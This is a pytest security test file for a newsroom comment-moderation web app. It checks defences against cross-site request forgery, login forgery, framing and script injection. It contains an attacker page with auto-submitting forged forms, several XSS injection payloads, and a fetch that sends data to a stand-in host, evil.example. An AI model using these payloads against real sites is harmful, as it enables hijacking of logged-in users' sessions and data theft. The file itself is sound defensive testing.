"""Requests that another site has a moderator's browser make, and pages that it shows in a frame of its own."""

from __future__ import annotations

import asyncio
import time

import aiohttp
import pytest
from playwright.async_api import Browser, expect

from moderation.comment import CommentStatus
from moderation.roles import REMEMBERED_S
from moderation.web.guard import cookie_name
from tests.browsers import IN_ONE_LOOP, in_chromium
from tests.newsroom import MEERA, OMAR, Newsroom
from tests.security.browser import other_site

pytestmark = IN_ONE_LOOP

SAME = {"Sec-Fetch-Site": "same-origin"}

FORGED_LOGINS: dict[str, dict[str, str]] = {
    "from another site": {"Sec-Fetch-Site": "cross-site"},
    "from another host of the site": {"Sec-Fetch-Site": "same-site"},
    "of another origin": {"Origin": "https://evil.example"},
    "of no origin": {"Origin": "null"},
    "of ours with another port": {"Origin": "http://127.0.0.1:1"},
    "with a cookie and no word on where from": {"Cookie": "{cookie}=chosen-by-the-attacker"},
    "of two minds": {"Sec-Fetch-Site": "same-origin", "Origin": "https://evil.example"},
}


@pytest.mark.parametrize("headers", FORGED_LOGINS.values(), ids=FORGED_LOGINS)
@pytest.mark.parametrize("content_type", ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"])
async def test_nobody_is_logged_in_as_somebody_else_by_another_site(
    newsroom: Newsroom, headers: dict[str, str], content_type: str
) -> None:
    link = await newsroom.login_link()
    sent = {name: value.replace("{cookie}", cookie_name(newsroom.settings)) for name, value in headers.items()}
    sent["Content-Type"] = content_type
    async with aiohttp.ClientSession(newsroom.address) as http:
        async with http.post("/review/login", data=f"token={link}".encode(), headers=sent) as answer:
            assert (answer.status, (await answer.json())["code"]) == (403, "forged_request")
            assert not answer.cookies
        # It was not used up either.
        async with http.post("/review/login", data={"token": link}, headers=SAME, allow_redirects=False) as answer:
            assert answer.status == 303


FORMS = """<!doctype html>
<iframe name="sink"></iframe>
<form id="typed" method="post" action="{ours}/review/comments/{held}/approve" target="sink">
<input name="revision" value="1"></form>
<form id="plain" method="post" enctype="text/plain" action="{ours}/review/comments/{held}/approve" target="sink">
<input name='{{"revision": 1, "clause": "3.2", "x": "' value='"}}'></form>
<form id="login" method="post" action="{ours}/review/login" target="sink"><input name="token" value="{link}"></form>
<form id="leave" method="post" action="{ours}/review/logout" target="sink"></form>
<script>
const attack = async () => {{
  const sink = document.querySelector("iframe");
  for (const form of document.forms)
    await new Promise((done) => {{ sink.onload = done; form.submit(); }});
  for (const type of ["text/plain", "application/x-www-form-urlencoded"])
    await fetch("{ours}/review/comments/{held}/approve", {{ method: "POST", mode: "no-cors", credentials: "include",
      headers: {{ "Content-Type": type }}, body: '{{"revision": 1}}' }}).catch(() => 0);
  try {{ await fetch("{ours}/review/queue", {{ credentials: "include" }}).then((a) => a.text()); window.read = true; }}
  catch {{ window.read = false; }}
}};
</script>"""


@in_chromium
async def test_what_another_site_has_a_moderators_browser_do_changes_and_shows_nothing(
    browser: Browser, newsroom: Newsroom
) -> None:
    held = await newsroom.held(await newsroom.story(), text="Held words")
    attackers = await newsroom.login_link(OMAR)
    context = await browser.new_context()
    page = await context.new_page()
    await page.goto(f"{newsroom.address}/review/login?token={await newsroom.login_link(MEERA)}")
    await page.get_by_role("button", name="Continue").click()
    await expect(page.get_by_text("Held words")).to_be_visible()
    before = await context.cookies()
    refused: list[int] = []
    context.on("response", lambda answer: refused.append(answer.status) if answer.request.method == "POST" else None)
    evil = await context.new_page()
    async with other_site({"/": FORMS.format(ours=newsroom.address, held=held, link=attackers)}) as address:
        await evil.goto(address)
        await evil.evaluate("attack()")
        async with asyncio.timeout(20):
            while len(refused) < 4:  # a browser that is busy tells of an answer after the page has it
                await asyncio.sleep(0.02)
    assert await evil.evaluate("window.read") is False
    assert set(refused) == {403}
    assert await context.cookies() == before
    await page.reload()
    await expect(page.get_by_text("Held words")).to_be_visible()
    record = await newsroom.parts.threads.one(held)
    assert record is not None and record.comment.status is CommentStatus.HELD
    await newsroom.parts.login.redeem(attackers, now=record.comment.created_at)


@in_chromium
async def test_no_page_of_ours_is_shown_in_another_sites_frame(browser: Browser, newsroom: Newsroom) -> None:
    paths = ("/", "/review/", "/review/login?token=x", "/docs", "/terms/en", "/api/v1/stories", "/feeds/comments.atom")
    frames = "".join(f'<iframe src="{newsroom.address}{path}"></iframe>' for path in paths)
    page = await (await browser.new_context()).new_page()
    async with other_site(
        {"/": f'<!doctype html>{frames}<iframe src="/other"></iframe>', "/other": "shown"}
    ) as address:
        await page.goto(address, wait_until="load")
        # A frame that was refused is at an error page, or never came to be anywhere.
        shown = [frame.url for frame in page.frames[1:] if frame.url.startswith("http")]
        assert len(page.frames) == len(paths) + 2
        # The site's own page shows that a frame can be filled.
        assert shown == [f"{address}/other"]


@in_chromium
async def test_a_script_that_got_into_a_page_is_not_run(browser: Browser, newsroom: Newsroom) -> None:
    context = await browser.new_context(base_url=newsroom.address)
    page = await context.new_page()
    await page.goto(f"/review/login?token={await newsroom.login_link(MEERA)}")
    await page.get_by_role("button", name="Continue").click()
    inject = """async () => {
      const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
      add("script", { textContent: "window.__xss = 1" });
      add("script", { src: "data:text/javascript,window.__xss=1" });
      add("script", { src: "https://evil.example/x.js" });
      document.body.insertAdjacentHTML("beforeend", "<img src=/none.png onerror='window.__xss=1'>");
      document.body.insertAdjacentHTML("beforeend", "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>");
      document.body.insertAdjacentHTML("beforeend", "<a id=press href='javascript:window.__xss=1'>x</a>");
      document.getElementById("press").click();
      const sent = await fetch("https://evil.example/?stolen").then(() => true, () => false);
      await new Promise((done) => setTimeout(done, 200));
      return [window.__xss ?? null, sent];
    }"""
    for path in ("/", "/review/", "/docs", "/terms/en", "/review/login"):
        await page.goto(path)
        assert await page.evaluate(inject) == [None, False], path


async def test_every_address_that_changes_anything_is_a_post(newsroom: Newsroom) -> None:
    from moderation.web.app import PAGE_ROUTES, PUBLIC_ROUTES
    from moderation.web.dashboard import ROUTES

    changing = {route.path for route in (*PUBLIC_ROUTES, *PAGE_ROUTES, *ROUTES) if route.method != "GET"}
    assert changing == {
        "/review/login",
        "/review/logout",
        "/review/switches",
        "/review/switches/{id}/end",
        *(f"/review/comments/{{id}}/{act}" for act in ("approve", "reject", "claim", "undo")),
    }
    held = await newsroom.held(await newsroom.story())
    desk = await newsroom.desk()
    for path in sorted(changing):
        async with desk.http.get(path.replace("{id}", str(held)) + "?revision=1&clause=3.2") as answer:
            assert answer.status in {200, 404, 405}
    await desk.http.close()
    record = await newsroom.parts.threads.one(held)
    assert record is not None and record.comment.status is CommentStatus.HELD


async def test_whose_role_is_taken_away_is_out_of_an_open_session_within_five_seconds(newsroom: Newsroom) -> None:
    assert REMEMBERED_S <= 5
    held = await newsroom.held(await newsroom.story())
    desk = await newsroom.desk(OMAR)
    async with desk.http.get("/review/") as answer:
        assert answer.status == 200
    newsroom.moderators.discard(OMAR)
    began = time.monotonic()
    async with asyncio.timeout(REMEMBERED_S + 5):
        while True:
            async with desk.http.get("/review/queue") as answer:
                if answer.status == 403:
                    break
            await asyncio.sleep(0.05)
    assert time.monotonic() - began <= REMEMBERED_S + 1
    assert (await desk.press(held, "approve"))[0] == 403
    await desk.http.close()
